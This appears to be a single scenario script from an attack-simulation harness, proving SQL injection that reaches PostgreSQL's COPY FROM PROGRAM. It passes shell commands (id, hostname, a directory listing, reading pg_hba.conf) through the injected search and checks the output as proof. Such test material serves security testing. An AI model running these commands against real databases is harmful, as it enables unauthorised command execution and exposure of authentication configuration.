#!/usr/bin/python3 -B
"""SQL injection to a program: the search's words reach COPY FROM PROGRAM (CWE-89, T1059)."""

from attack import Attack


def run(attack: Attack) -> bool:
    said = attack.database("id; hostname; cd /data/postgres; ls -la; tail -3 pg_hba.conf")
    return attack.prove("uid=71" in said and "scram-sha-256" in said, said=said)


Attack("T1190, T1059.004", ["edge", "catalog", "db"], ["/data/postgres"], entry="catalog").main(run)
